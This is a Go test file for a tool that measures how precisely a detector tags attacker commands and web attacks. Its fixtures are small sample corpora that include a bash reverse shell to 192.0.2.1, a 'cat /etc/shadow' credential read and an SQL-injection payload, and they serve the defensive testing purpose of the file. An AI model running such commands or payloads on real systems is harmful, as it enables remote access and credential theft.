package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// files are one text of each meaning: what the built-in rules must find, and
// what they must not.
var files = map[string]string{
	"commands/atomic-linux.jsonl": `{"technique":"T1003.008","test_guid":"1","test_name":"shadow","command":"mkdir x"}
{"technique":"T1003.008","test_guid":"1","test_name":"shadow","command":"cat /etc/shadow"}
{"technique":"T1562.001","test_guid":"2","test_name":"of an older release","command":"frobnicate"}
`,
	"labelled/haas-statements.jsonl": `{"session_id":"1","statement":"uname -a","tactic":"Discovery"}
{"session_id":"1","statement":"frobnicate","tactic":"Execution"}
{"session_id":"1","statement":"frobnicate","tactic":"Harmless"}
`,
	"commands/revshells.txt": "bash -i >& /dev/tcp/192.0.2.1/80 0>&1\n",
	"benign/nl2bash.txt":     "ls\n\ncat /etc/shadow\n",
	"web/httpparams.jsonl": `{"payload":"1' union select password from users--","attack_type":"sqli"}
{"payload":"a b","attack_type":"norm"}
`,
}

func writeData(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(filepath.Join(dir, "sigma"), 0o700); err != nil {
		t.Fatal(err)
	}
	return dir
}

func runOn(t *testing.T, data, half string) (string, error) {
	t.Helper()
	var out strings.Builder
	o := options{data: data, decnet: "../../tagger/rule/testdata/decnet", half: half, details: "built-in", worst: 10}
	err := o.run(t.Context(), &out)
	return out.String(), err
}

func TestPrecision_scores_each_kind_of_text(t *testing.T) {
	t.Parallel()
	got, err := runOn(t, writeData(t), "")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"| measure | of | built-in | DECNET | Sigma | all |",
		"| labelled statements: tactic agreed, micro | 2 | 50.00 % | 0.00 % | 0.00 % | 50.00 % |",
		"| labelled statements: tactic agreed, macro | 5 tactics | 20.00 % |",
		"| statements labelled Harmless: without a tag | 1 | 100.00 % |",
		"| Atomic tests: technique found in any line | 2 | 50.00 % |",
		"| reverse shells tagged | 1 | 100.00 % |",
		"| ordinary commands with a tag of 0.8 or more | 2 | 50.00 % |",
		"| HTTP parameters: attacks tagged | 1 | 100.00 % |",
		"| HTTP parameters: ordinary ones tagged | 1 | 0.00 % |",
		"1  T1685 of an older release: frobnicate",
		"1  R0014  cat /etc/shadow",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing: %s\nin:\n%s", want, got)
		}
	}
}

func TestPrecision_halves_have_nothing_in_common_and_are_everything(t *testing.T) {
	t.Parallel()
	dir := writeData(t)
	count := func(half string) (n int) {
		c, err := readCorpora(dir, half)
		if err != nil {
			t.Fatal(err)
		}
		return len(c.tests) + len(c.statements) + len(c.shells) + len(c.ordinary) + len(c.params)
	}
	if a, b, all := count("a"), count("b"), count(""); a == 0 || b == 0 || a+b != all {
		t.Errorf("halves of %d and %d texts, %d in all", a, b, all)
	}
}

func TestPrecision_without_data_says_where_it_looked(t *testing.T) {
	t.Parallel()
	missing := filepath.Join(t.TempDir(), "none")
	if _, err := runOn(t, missing, ""); err == nil || !strings.Contains(err.Error(), missing) {
		t.Errorf("got error %v, want one that names %s", err, missing)
	}
	if _, err := runOn(t, writeData(t), "c"); err == nil {
		t.Error("no error for a half that is none")
	}
}

func TestPrecision_faulty_data_is_named_by_file_and_line(t *testing.T) {
	t.Parallel()
	dir := writeData(t)
	if err := os.WriteFile(filepath.Join(dir, "web/httpparams.jsonl"), []byte("{}\nnot JSON\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := runOn(t, dir, ""); err == nil || !strings.Contains(err.Error(), "httpparams.jsonl, line 2") {
		t.Errorf("got error %v, want one that names file and line", err)
	}
}
